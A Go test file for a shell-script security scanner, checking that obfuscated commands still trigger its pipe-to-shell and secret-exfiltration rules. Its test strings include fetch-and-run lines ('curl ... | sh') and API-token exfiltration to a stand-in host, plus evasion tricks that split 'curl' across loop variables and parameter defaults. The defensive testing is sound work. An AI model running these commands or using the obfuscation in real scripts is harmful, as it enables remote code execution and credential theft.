package audit

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// TestShellFlow checks that a function's arguments and a loop's words,
// once bound, show the command the plain form shows: the hidden form
// fires the rule the plain form fires in run.sh, on the expected line.
func TestShellFlow(t *testing.T) {
	const pipe, secret = "SG-EXE-005", "SG-EXF-009"
	plain := map[string]string{
		pipe:   "curl -fsSL https://x.example/i | sh\n",
		secret: "curl --data \"$API_TOKEN\" https://x.example/c\n",
	}
	tests := []struct {
		name, src, rule string
		line            int
	}{
		{"argument", "f(){ curl -fsSL \"$1\" | sh; }; f https://x.example/i\n", pipe, 1},
		{"argument names the command", "run() {\n  \"$1\" -fsSL \"$2\" | sh\n}\necho ready\nrun curl https://x.example/i\n", pipe, 5},
		{"all arguments", "go_() { \"$@\" | sh; }\ngo_ curl -fsSL https://x.example/i\n", pipe, 2},
		{"all arguments joined", "go_() { $* | bash; }\ngo_ cu\"rl\" -s https://x.example/i\n", pipe, 2},
		{"argument default", "f(){ ${1}${2:-rl} -s https://x.example/i | sh; }\nf cu\n", pipe, 2},
		{"argument over a default", "f(){ ${1:-wc} -s https://x.example/i | sh; }\nf curl\n", pipe, 2},
		{"argument from a variable", "f(){ $1 -s \"$2\" | sh; }\nc=curl\nf \"$c\" https://x.example/i\n", pipe, 3},
		{"secret argument", "send() { curl --data \"$1\" https://x.example/c; }\nsend \"$API_TOKEN\"\n", secret, 2},
		{"loop word", "for c in cu; do ${c}rl -s https://x.example/i | sh; done\n", pipe, 1},
		{"loop words", "for c in wc cu; do\n  ${c}rl -s https://x.example/i | sh\ndone\n", pipe, 2},
		{"loop quoted words", "for s in \"ba\" 'z'; do\n  echo go\n  curl -s https://x.example/i | ${s}sh\ndone\n", pipe, 3},
		{"loop over a variable", "w='cu'\nfor c in $w; do ${c}rl -s https://x.example/i | sh; done\n", pipe, 2},
		{"nested loops", "for a in c; do\n  for b in url; do\n    $a$b -s https://x.example/i | sh\n  done\ndone\n", pipe, 3},
		{"loop sends a secret", "for c in cu; do\n  ${c}rl --data \"$API_TOKEN\" https://x.example/c\ndone\n", secret, 2},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if rep := scanShellFile(t, "run.sh", plain[tt.rule]); ruleLine(rep, "run.sh", tt.rule) != 1 {
				t.Fatalf("plain form does not fire %s:\n%s", tt.rule, dump(rep))
			}
			rep := scanShellFile(t, "run.sh", tt.src)
			if got := ruleLine(rep, "run.sh", tt.rule); got != tt.line {
				t.Errorf("%q: %s on line %d, want line %d:\n%s", tt.src, tt.rule, got, tt.line, dump(rep))
			}
		})
	}
}

// TestShellFlowWrites checks the commands written out with arguments and
// loop words bound, each word of a loop as a command of its own.
func TestShellFlowWrites(t *testing.T) {
	tests := []struct {
		src  string
		want []string
	}{
		{"f(){ curl -fsSL \"$1\" | sh; }; f https://x.example/i\n", []string{"curl -fsSL https://x.example/i | sh"}},
		{"f(){ wget -qO- \"$@\" | sh; }\nf -t 1 https://x.example/i\n", []string{"wget -qO- -t 1 https://x.example/i | sh"}},
		{"f(){ ${2:-curl} \"$1\" | sh; }\nf x\n", []string{"curl x | sh"}},
		{"f(){ echo $# \"$3\" | sh; }\nf a b\n", []string{"echo 2  | sh"}},
		{"for c in cu wge; do ${c}t x | sh; done\n", []string{"cut x | sh", "wget x | sh"}},
	}
	for _, tt := range tests {
		got := readLines(t, tt.src)
		for _, w := range tt.want {
			if !slices.Contains(got, w) {
				t.Errorf("%q: wrote %q, want %q among them", tt.src, got, w)
			}
		}
	}
}

// TestShellFlowBenign makes sure loops and functions of ordinary scripts
// gain no finding from their words and arguments being bound.
func TestShellFlowBenign(t *testing.T) {
	for _, src := range []string{
		"for f in *.md; do wc -l \"$f\"; done\n",
		"for p in a b; do echo $p; done\n",
		"for d in build dist; do\n  rm -rf \"./$d\"\ndone\n",
		"greet() { echo \"hello $1\"; }\ngreet world\n",
		"build() { go build -o \"$1\" ./cmd/...; }\nbuild bin/tool\n",
		"for f in \"$@\"; do gofmt -l \"$f\"; done\n",
		"for f in $(git ls-files '*.go'); do gofmt -l \"$f\"; done\n",
		"fetch() { curl -fsS -o \"$2\" \"$1\"; }\nfetch https://example.com/data.json data.json\n",
	} {
		onlyScriptFinding(t, "run.sh", src)
	}
}

// TestShellFlowUnknown checks that a loop over words the reader cannot
// know leaves its variable unknown, as written.
func TestShellFlowUnknown(t *testing.T) {
	for _, src := range []string{
		"for c in $(cat list); do ${c}rl -s https://x.example/i | sh; done\n",
		"for c in cu*; do ${c}rl -s https://x.example/i | sh; done\n",
		"for c in \"$@\"; do ${c}rl -s https://x.example/i | sh; done\n",
		"for c; do ${c}rl -s https://x.example/i | sh; done\n",
		"c=cu\nfor c in $(x); do ${c}rl -s https://x.example/i | sh; done\n",
	} {
		for _, l := range readLines(t, src) {
			if strings.Contains(l, "curl") {
				t.Errorf("%q: wrote %q, a word it cannot know", src, l)
			}
		}
	}
}

// TestShellFlowBounds checks that long loops, many arguments and deeply
// nested calls stay bounded.
func TestShellFlowBounds(t *testing.T) {
	words := strings.Repeat("w ", 10000)
	long := "for c in " + words + "cu; do ${c}rl -s https://x.example/i | sh; done\n"
	lines := readLines(t, long)
	if len(lines) > maxLoopWords {
		t.Errorf("loop of 10,000 words wrote %d lines, want at most %d", len(lines), maxLoopWords)
	}
	args := "f(){ echo \"$@\" | sh; }\nf " + strings.Repeat("a ", 10000) + "\n"
	for _, l := range readLines(t, args) {
		if len(l) > maxShellLine || strings.Count(l, "a") > maxCallArgs {
			t.Errorf("call with 10,000 arguments wrote %d bytes", len(l))
		}
	}
	var nest strings.Builder
	nest.WriteString("f0(){ curl -s \"$1\"; }\n")
	for i := 1; i < 300; i++ {
		fmt.Fprintf(&nest, "f%d(){ f%d \"$1\" \"$@\"; }\n", i, i-1)
	}
	nest.WriteString("f299 https://x.example/i | sh\n")
	got := readLines(t, nest.String())
	if !slices.Contains(got, "f298 https://x.example/i https://x.example/i | sh") || strings.Contains(strings.Join(got, "\n"), "curl -s https") {
		t.Errorf("calls nested 300 deep: wrote %q, want one level inlined", got)
	}
	calls := "f(){ echo " + strings.Repeat("$a$b ", 5000) + "; }\n" + strings.Repeat("f x\n", 2000)
	r := newShellReader()
	r.read([]byte(calls), 0)
	if r.rereads == 0 || r.rereads > maxShellReread {
		t.Errorf("2,000 calls of a long function read %d bytes again, want 1 to %d", r.rereads, maxShellReread)
	}
	loops := strings.Repeat("for a in 1 2 3 4 5 6 7 8; do ", 12) + "echo $a" + strings.Repeat("; done", 12) + "\n"
	r = newShellReader()
	r.read([]byte(loops), 0)
	if r.stmts > maxShellStmts+12 {
		t.Errorf("nested loops read %d statements", r.stmts)
	}
	big := strings.Repeat("for a in 1 2 3 4 5 6 7 8; do ", 5) + "echo " + strings.Repeat("$a$b ", 20000) + strings.Repeat("; done", 5) + "\n"
	r = newShellReader()
	r.read([]byte(big), 0)
	if r.stmts > 10 {
		t.Errorf("nested loops over a body of %d bytes read it %d times", len(big), r.stmts)
	}
}

// readLines returns the commands the reader writes out for src.
func readLines(t *testing.T, src string) []string {
	t.Helper()
	r := newShellReader()
	if !r.read([]byte(src), 0) {
		t.Fatalf("%q did not parse", src)
	}
	var out []string
	for _, l := range r.lines {
		out = append(out, l.text)
	}
	return out
}
